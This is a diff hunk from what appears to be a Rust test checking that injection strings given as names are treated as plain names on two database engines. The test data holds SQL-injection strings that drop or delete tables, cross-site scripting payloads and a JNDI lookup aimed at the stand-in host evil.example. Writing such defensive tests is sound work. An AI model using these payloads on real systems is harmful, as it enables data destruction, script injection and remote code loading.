@@ -205,8 +205,8 @@ async fn fields_of_a_wrong_type_are_refused_one_by_one(world: World) {
 #[both_engines(Empty)]
 async fn code_in_a_name_is_a_name(world: World) {
     for (number, name) in [
-        "'; DROP TABLE creators; --",
-        "Robert'); DELETE FROM campaigns; --",
+        "'; DROP TABLE \"creators\"; --",
+        "Robert'); DELETE FROM \"campaigns\"; --",
         "<script>alert('x')</script>",
         "\"><img src=x onerror=alert(1)>",
         "${jndi:ldap://evil.example/a}",
